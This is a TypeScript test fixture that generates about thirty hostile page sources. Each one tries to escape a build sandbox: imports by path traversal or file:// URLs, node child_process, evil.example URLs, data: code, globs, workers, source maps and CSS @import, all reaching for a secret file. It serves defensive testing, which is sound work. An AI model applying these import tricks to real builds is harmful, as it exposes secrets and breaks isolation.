/** Pages that try to take in what is not theirs; `secret` is a file of the disk that must stay out of everything. */
export const hostileSources = (secret: string): Record<string, string> => {
  const page = (head: string, shown = 'secret') =>
    `${head}\nexport default function Home() { return <pre>{String(${shown})}</pre>; }\n`;
  return {
    'a package of Node': page("import secret from 'fs';"),
    'a package of Node by its scheme': page("import * as secret from 'node:child_process';"),
    'an absolute path': page(`import secret from '${secret}';`),
    'an absolute path as text': page(`import secret from '${secret}?raw';`),
    'a JSON file': page(`import secret from '${secret}.json' with { type: 'json' };`),
    'a file address': page(`import secret from 'file://${secret}';`),
    'a path that climbs': page(`import secret from '../../../../../../../../..${secret}';`),
    'a path that climbs through the alias': page(
      `import secret from '@/components/../../../../..${secret}';`,
    ),
    'a foreign web address': page("import secret from 'https://evil.example/x.js';"),
    'an address without scheme': page("import secret from '//evil.example/x.js';"),
    'code in an address': page("import secret from 'data:text/javascript,export default 1';"),
    'a package that is not allowed': page("import secret from 'axios';"),
    'a part of an allowed package': page("import secret from 'react/package.json';"),
    'our own server': page("import { readConfig as secret } from '@sayso/server/config';"),
    'our own server by its path': page("import secret from '../../server/src/config.ts';"),
    'a module of the host': page("import { createEntity as secret } from 'sayso:entity';"),
    'the host by a path': page("import secret from 'sayso:host/../../../server/src/config.ts';"),
    'a virtual module': page("import secret from '\\0app:entry';"),
    'another source of JSX': page('/** @jsxImportSource evil */', '1'),
    'a computed import': page(`const secret = import('${secret}' + '');`),
    'an import in a template': page(`const name = '${secret}'; const secret = import(\`\${name}\`);`),
    'a re-export of everything': page(`export * from '${secret}';`, '1'),
    'a plain require': page(`const secret = require('${secret}');`),
    'a file beside the module': page(`const secret = new URL('${secret}', import.meta.url);`),
    'a worker from a path': page(`const secret = new Worker(new URL('${secret}', import.meta.url));`),
    'a glob': page("const secret = import.meta.glob('/**/*', { eager: true });"),
    'a reference path': page(`/// <reference path="${secret}" />`, '1'),
    'a foreign source map': page(`//# sourceMappingURL=${secret}`, '1'),
    'a style sheet': page(`import '${secret}.css';`, '1'),
    'style rules in a text': page(`const secret = '@import "${secret}"; @plugin "${secret}"; @source "/";';`),
  };
};
